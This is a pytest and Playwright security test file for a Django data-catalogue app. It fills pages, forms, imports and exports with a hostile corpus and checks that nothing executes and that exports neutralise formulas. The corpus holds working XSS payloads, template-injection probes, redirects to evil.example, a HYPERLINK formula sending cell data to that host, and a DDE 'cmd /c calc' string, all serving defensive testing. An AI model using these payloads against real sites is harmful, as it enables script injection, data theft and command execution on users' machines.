"""Scripts that others keep in their names, comments and values, in a real browser over every page: none runs, none is hidden.

The browser's requests are answered by the test client, so the estate is built once in a transaction and never committed.
"""

import csv
import io
import json
import re
from collections.abc import Iterator
from html import unescape
from itertools import cycle, islice
from typing import Any
from urllib.parse import quote, urlsplit

import openpyxl
import pytest
from django import forms
from django.apps import apps
from django.contrib.postgres.fields import ArrayField
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.db.models import CharField, JSONField, TextField
from django.http import HttpResponse
from django.test import Client, RequestFactory
from playwright.sync_api import Browser, BrowserContext

from assets.models import Table
from core import audit
from datagene import unseen
from tests.accounts import world
from tests.conftest import CHROMIUM, as_owner
from tests.contracts.places import Place, build, routes, undone

pytestmark = [
    pytest.mark.django_db,
    pytest.mark.skipif(CHROMIUM is None, reason="no browser on this machine: apt install chromium"),
]
CORPUS = (
    "<script>ran=1</script>",
    "\"><img src=x onerror=ran=1>",
    "'><svg/onload=ran=1>",
    '" autofocus onfocus="ran=1" x="',
    "' autofocus onfocus='ran=1' x='",
    "</title></textarea></style></script><script>ran=1</script>",
    "javascript:ran=1//",
    "{{191*193}}{% debug %}${191*193}<%=191*193%>",
    "<iframe srcdoc='<script>parent.ran=1</script>'>",
    "&lt;script&gt;ran=1&lt;/script&gt;",
    "\\u003cscript\\u003eran=1\\u003c/script\\u003e",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button formaction=javascript:ran=1>x",
    "<a href=javascript:ran=1>x</a><style>@import'//evil.example/x'</style>",
    "<!--><img src=x onerror=ran=1>-->",
    "\u202egnp.exe\u202c a\u200bb\ufeff\u2066c\u2069\x1b[31m",
    "=hyperlink(\"//evil.example/\"&a1)", "+1+cmd|' /c calc'!a0", "-2+3", "@sum(1)", "\t=1", "＝1",
)  # fmt: skip
MARK = "ran=1"
FORMULAS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
# Text with a meaning of its own: keys, digests, codes that a registry must know, times, conditions in their grammar.
KEPT = {
    "kind", "target", "exclusive_key", "idem_key", "lease_owner", "url", "verb", "method", "digest", "key", "kid", "wrapped", "kek_id",
    "path", "sort_key", "password", "prefix", "session_key", "name_digest", "value_class", "network", "sealed_secrets", "census_cron",
    "scan_cron", "cron", "evidence", "plan", "where", "error_code", "state_code", "pattern",
}  # fmt: skip
# Documents with words of sources and of people in them, and the keys in them that mean something to us.
DOCUMENTS = {
    "told", "words", "trial", "examples", "keys", "key_columns", "differs", "before", "after", "foreign_keys", "indexes", "top", "patterns",
    "held", "unreadable", "reasons", "detail", "names",
}  # fmt: skip
MEANT = {"key", "kind", "code", "type", "value_class", "id", "column", "element", "aspect", "state", "level"}
FAILED = {"error_code": "key_file", "error_params": {"reason": CORPUS[0] + CORPUS[1]}}
# What a script that got in would leave behind even if the content policy kept it from running.
FOUND = """root => [...root.querySelectorAll('*')].filter(node =>
        [...node.attributes].some(a => /^on/i.test(a.name) || a.name === 'srcdoc' || /^\\s*javascript:/i.test(a.value) && /^(href|action|formaction|src|data)$/i.test(a.name)) ||
        ['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'MATH'].includes(node.tagName) ||
        node.tagName === 'SCRIPT' && !node.getAttribute('src') && node.type !== 'application/json' ||
        node.tagName === 'META' && /refresh/i.test(node.httpEquiv) || node.tagName === 'STYLE' ||
        node.tagName === 'IMG' && node.getAttribute('src') === 'x').map(node => node.outerHTML.slice(0, 200))"""
INTRUDERS = f"""() => ({{
    ran: window.ran, policy: window.refusals, found: ({FOUND})(document), text: document.title + document.body.innerText,
}})"""
# The same of an answer that is taken apart as the browser does it, and not shown.
PARSED = f"""html => {{
    const parsed = new DOMParser().parseFromString(html, 'text/html');
    return {{ found: ({FOUND})(parsed), text: parsed.documentElement.textContent }};
}}"""


def hostile(number: int, length: int | None) -> str:
    """The corpus from its ``number``-th string on, as much as fits, never the same twice."""
    start = number % len(CORPUS)
    text, end = "", f" {number}"[-(length or 99) :]
    for part in (*CORPUS[start:], *CORPUS[:start]):
        if length is None or len(text) + len(part) + len(end) <= length:
            text += part
    return text + end


def poisoned(value: Any, number: int) -> Any:
    """A document with every text in it exchanged that is not a key of ours."""
    if isinstance(value, dict):
        return {name: item if name in MEANT else poisoned(item, number + 1) for name, item in value.items()}
    if isinstance(value, list):
        return [poisoned(item, number + place) for place, item in enumerate(value)]
    return hostile(number, 300) if isinstance(value, str) else value


def script() -> str:
    """Tables whose names, columns, keys and values are the corpus."""
    lines = []
    for number, texts in enumerate(zip(*(islice(cycle(CORPUS), start, start + 4) for start in range(3)), strict=True)):
        table, column, value = (text.replace("\x1b", "") for text in texts)
        quoted = ['"' + name.replace('"', '""') + '"' for name in (f"{number}{table}", f"{column}", "x" + column)]
        lines.append(f"CREATE TABLE {quoted[0]} ({quoted[1]} TEXT PRIMARY KEY, {quoted[2]} TEXT);")
        values = [one.replace("'", "''") for one in (value, *CORPUS)]
        lines += [f"INSERT OR IGNORE INTO {quoted[0]} VALUES ('{one}{n}', '{one}');" for n, one in enumerate(values)]
    return "\n".join(lines)


def overwrite() -> int:
    """Every text of every row of ours that somebody may write, here or in a source, becomes hostile; how many fields."""
    fields = 0
    for model in apps.get_models():
        if model.__module__.partition(".")[0] in {"django", "rest_framework"} or model._meta.label == "core.AuditEntry":
            continue
        texts = [
            field
            for field in model._meta.concrete_fields
            if isinstance(field, CharField | TextField) and not field.choices and field.name not in KEPT
        ]
        documents = [
            field.name
            for field in model._meta.concrete_fields
            if isinstance(field, JSONField | ArrayField) and field.name in DOCUMENTS
        ]
        for number, row in enumerate(model._default_manager.all()):
            change: dict[str, Any] = {
                field.name: hostile(number + place, field.max_length) for place, field in enumerate(texts)
            }
            change |= {name: poisoned(getattr(row, name), number) for name in documents}
            if hasattr(row, "error_params"):
                change |= FAILED
            if change:
                model._default_manager.filter(pk=row.pk).update(**change)
        fields += len(texts)
    return fields


@pytest.fixture(scope="module")
def estate(django_db_setup: None, django_db_blocker: Any, tmp_path_factory: Any) -> Iterator[Place]:
    with django_db_blocker.unblock(), transaction.atomic():
        place = build(world.agency("滨海市"), "abcd", "本局", tmp_path_factory.mktemp("scripts"), script())
        with as_owner() as cursor:  # published editions and their like refuse to be edited
            cursor.execute("SET LOCAL session_replication_role = replica")
            assert overwrite() > 40
            cursor.execute("SET LOCAL session_replication_role = origin")
        for number, text in enumerate(CORPUS):
            audit.record(
                actor=place.manager, verb="thing.change", target=f"t:{number}", target_label=text, changes={text: text}
            )
        yield place
        transaction.set_rollback(True)


@pytest.fixture
def place(estate: Place, db: None, settings: Any) -> Place:
    settings.API_CALLS_PER_MINUTE = 1_000_000
    return estate.again()


_PAGES: dict[str, Any] = {}


def pages(place: Place) -> dict[str, Any]:
    """{address: answer} of every page that somebody of the place may open, and of what searching for a part of it finds.

    Asked for once: what tests do to the estate is undone.
    """
    if not _PAGES:
        _PAGES.update(_pages(place))
    return _PAGES


def _pages(place: Place) -> Iterator[tuple[str, Any]]:
    clients = [world.browser(person) for person in (place.manager, *place.people)]
    found = [
        route.address(place.ids[place.label_of(route)] if route.key else None)
        for route in routes()
        if not route.is_api and "get" in route.methods
    ]
    for address in (
        *found,
        "/search/?q=script",
        "/search/?q=%3Cscript",
        "/assets/?q=script",
        "/?next=javascript:ran=1",
    ):
        for client in clients:
            answer = client.get(address)
            if answer.status_code == 200 and answer.headers["Content-Type"].startswith("text/html"):
                yield address, answer
                break


def watched(browser: Browser, answers: dict[str, Any]) -> tuple[BrowserContext, list[str]]:
    """A browser whose every request is answered here, and what it asked for or complained of that it should not."""
    context, faults = browser.new_context(base_url="http://testserver"), []
    files, client = {}, Client()

    def answer(route: Any) -> None:
        address = route.request.url.removeprefix("http://testserver")
        if urlsplit(route.request.url).netloc != "testserver":
            faults.append(f"request to another host: {route.request.url}")
            route.abort()
            return
        if address not in answers and address not in files:
            files[address] = client.get(address)
        given = answers.get(address) or files[address]
        body = given.getvalue() if given.streaming else given.content
        route.fulfill(status=given.status_code, headers=dict(given.headers), body=body)

    context.route("**/*", answer)
    context.add_init_script(
        "window.refusals = []; document.addEventListener('securitypolicyviolation', e => refusals.push(e.violatedDirective + ' ' + e.blockedURI))"
    )
    context.on("dialog", lambda dialog: faults.append(f"dialog: {dialog.message}"))
    context.on("weberror", lambda error: faults.append(f"exception: {error.error}"))
    return context, faults


def test_no_script_of_others_runs_on_any_page(browser: Browser, place: Place) -> None:
    answers = pages(place)
    context, faults = watched(browser, answers)
    page, showing = context.new_page(), 0
    for address in answers:
        page.goto(address)
        seen = page.evaluate(INTRUDERS)
        assert (seen["ran"], seen["policy"], seen["found"], faults) == (None, [], [], []), address
        assert "36863" not in seen["text"], f"{address}: 191 × 193 was worked out"
        hidden = unseen.ANY.findall(seen["text"])
        assert hidden == [], f"{address}: {hidden}"
        showing += MARK in seen["text"]
    context.close()
    assert len(answers) > 50
    assert showing > len(answers) * 0.8, "the corpus is on most pages, as text"


# What people send ------------------------------------------------------------------------------------------------------


def sent(place: Place) -> Iterator[tuple[str, str]]:
    """(address, HTML) of what answers what people send: forms filled in, deeds with the notice that follows, inspectors, panes,
    lists searched, the report of an import, a design that is checked, addresses that lead nowhere."""
    clients = [world.browser(person) for person in (place.manager, *place.people)]
    answered = pages(place)
    for number, route in enumerate(routes()):
        if route.is_api or "?" in route.text or route.text in ("/sign-out/", "/account/password/"):
            continue
        address = route.address(place.ids[place.label_of(route)] if route.key else None)
        shown = answered.get(address)
        client = shown.client if shown else clients[0]
        if "post" in route.methods:
            yield from posted([client] if shown else clients, address, shown, number)
        if shown and not route.key:
            yield from asked(client, address, shown, number)
    yield from reported(clients[0])
    for text in CORPUS:
        yield "nowhere", Client().get(f"/assets/{quote(text)}/").content.decode()


def posted(clients: list[Client], address: str, shown: Any, number: int) -> Iterator[tuple[str, str]]:
    """Once with everything filled in, the choices rightly, and once with the corpus everywhere; a deed leads to its notice."""
    form = shown.context.get("form") if shown is not None and shown.context else None
    fields = getattr(form, "fields", {})
    for body in (
        {name: filled(field, number) for name, field in fields.items()},
        {name: hostile(number + place, 900) for place, name in enumerate((*fields, "selected", "query", "q"))},
    ):
        for client in clients:
            with undone(client):
                answer = client.post(address, body)
                if answer.status_code == 302:
                    answer = client.get(answer.headers["Location"])
            if answer.status_code not in (403, 404, 405):
                yield address, answer.content.decode()
                break


def filled(field: Any, number: int) -> Any:
    if isinstance(field, forms.ModelChoiceField):
        return next((str(row.pk) for row in field.queryset[:1]), "")
    if isinstance(field, forms.ChoiceField):
        return next((str(key) for key, _label in field.choices if key), "")
    if isinstance(field, forms.DateField):
        return "2027-01-31"
    return (
        "1"
        if isinstance(field, forms.IntegerField | forms.DecimalField)
        else hostile(number, field.__dict__.get("max_length") or 200)
    )


def asked(client: Client, address: str, shown: Any, number: int) -> Iterator[tuple[str, str]]:
    """A list that is searched and narrowed in vain, and what its rows open beside it."""
    query = {
        name: CORPUS[(number + place) % len(CORPUS)]
        for place, name in enumerate(("q", "sort", "page", "by", "show", "state"))
    }
    yield address, client.get(address, query).content.decode()
    for link in re.findall(r'href="([^"]*[?&;](?:inspect|focus)=[^"]*)"', shown.content.decode())[:1]:
        where = address + unescape(link) if link.startswith("?") else unescape(link)
        yield where, client.get(where).content.decode()


def reported(client: Client) -> Iterator[tuple[str, str]]:
    """The report of an import, its second look, and a design, each made of the corpus."""
    page = client.get("/standards/elements/import/")
    agency = page.context["form"].fields["agency"].queryset[0].pk
    lines = io.StringIO()
    writer = csv.writer(lines)
    writer.writerow(["编号", "名称", "定义", "数据格式", "级别", "值域", "代码集", "同义词", "来源", CORPUS[0]])
    for number, text in enumerate(CORPUS):
        writer.writerow([f"H{number}", text, text, text, text, text, text, text, text, text])
        writer.writerow([text, text, text, "an..18", "L2", text, "", text, text, text])
    file = SimpleUploadedFile(f"{CORPUS[0].replace('/', '')}.csv", lines.getvalue().encode())
    answer = client.post(page.request["PATH_INFO"], {"agency": agency, "domain": "general", "file": file})
    assert answer.status_code == 200
    yield "import", answer.content.decode()
    columns = ", ".join('"' + text.replace('"', '""') + '" varchar(9)' for text in CORPUS)
    for product in ("postgresql", "dameng"):
        ddl = f'CREATE TABLE "{CORPUS[3].replace(chr(34), chr(34) * 2)}" ({columns});' + "".join(
            f"CREATE TABLE t{number} (a {text}); COMMENT ON TABLE t{number} IS '{text.replace(chr(39), chr(39) * 2)}';"
            for number, text in enumerate(CORPUS)
        )
        yield "design", client.post("/genes/design/", {"product": product, "kind": "ddl", "text": ddl}).content.decode()
    listed = "字段名\t类型\t注释\t表名\n" + "".join(f"{text}\t{text}\t{text}\t{text}\n" for text in CORPUS)
    yield "design", client.post("/genes/design/", {"product": "mysql", "kind": "list", "text": listed}).content.decode()


def test_no_script_of_others_comes_back_from_what_is_sent(browser: Browser, place: Place) -> None:
    page, answered, showing = browser.new_page(), 0, 0
    for address, html in sent(place):
        seen = page.evaluate(PARSED, html)
        assert seen["found"] == [], address
        assert "36863" not in seen["text"], f"{address}: 191 × 193 was worked out"
        answered, showing = answered + 1, showing + (MARK in seen["text"])
    page.close()
    assert answered > 200
    assert showing > 80, "much of it is told again, as text"


def test_what_programs_read_is_well_formed(place: Place) -> None:
    """JSON and CSV with those names in them, quotes, brackets and line ends included, give them back as they are."""
    client, read = world.browser(place.manager), 0
    for route, address, _key in place.addresses():
        answer = client.get(address) if route.is_api and "get" in route.methods else None
        if answer is not None and answer.status_code == 200 and "json" in answer["Content-Type"]:
            read += MARK in json.dumps(answer.json(), ensure_ascii=False)
    assert read > 20
    listed = client.get("/api/v1/tables/?limit=200").json()["results"]
    assert {row["name"] for row in listed} == set(Table.objects.values_list("name", flat=True))
    assert len(taken(client.get("/assets/?export=csv"))) == len(listed) + 1


def test_no_file_that_is_taken_away_holds_a_formula(place: Place) -> None:
    """Every list of every app, as CSV and as a workbook, with names and remarks that begin as formulas do."""
    clients, armed, lists = [world.browser(person) for person in (place.manager, *place.people)], 0, 0
    for address in [route.address() for route in routes() if "?export=csv" in route.text and not route.key]:
        answers = ((client, client.get(address)) for client in clients)
        client, answer = next((client, answer) for client, answer in answers if answer.status_code == 200)
        if not answer["Content-Type"].startswith("text/csv"):
            continue  # a list that is not taken away
        rows = taken(answer)
        assert {len(row) for row in rows} == {len(rows[0])}, address
        book = openpyxl.load_workbook(io.BytesIO(client.get(address.replace("=csv", "=xlsx")).getvalue())).active
        cells = [cell for row in book.iter_rows() for cell in row]
        assert book.max_column == len(rows[0]), address
        assert book.max_row - len(rows) in (0, 1), address  # taking the audit trail away is on record there
        assert [cell.value for cell in cells if cell.data_type == "f"] == [], address
        texts = [text for row in rows for text in row]
        texts += [str(cell.value) for cell in cells if cell.data_type in ("s", "inlineStr")]
        assert [text for text in texts if text.startswith(FORMULAS) and not text[1:].replace(".", "").isdigit()] == []
        armed += sum(text.startswith("'") and text[1:].startswith(FORMULAS) for text in texts)
        lists += 1
    assert (lists > 20, armed > 100) == (True, True), (lists, armed)


def taken(answer: Any) -> list[list[str]]:
    """The rows of a CSV file, its head first."""
    return list(csv.reader(io.StringIO(answer.getvalue().decode("utf-8-sig"))))


def test_hidden_characters_are_shown_and_forms_keep_them() -> None:
    hidden = "a\u202eb\u200b"
    page = f'<p title="{hidden}">{hidden}</p><input value="{hidden}"><textarea>\n{hidden}</textarea><option value="{hidden}">{hidden}</option>'

    def answer(_request: Any) -> HttpResponse:
        return HttpResponse(page)

    shown = "a⟨U+202E⟩b⟨U+200B⟩"
    wanted = f'<p title="{shown}">{shown}</p><input value="{hidden}"><textarea>\n{hidden}</textarea><option value="{hidden}">{shown}</option>'
    assert unseen.shown(answer)(RequestFactory().get("/")).content.decode() == wanted
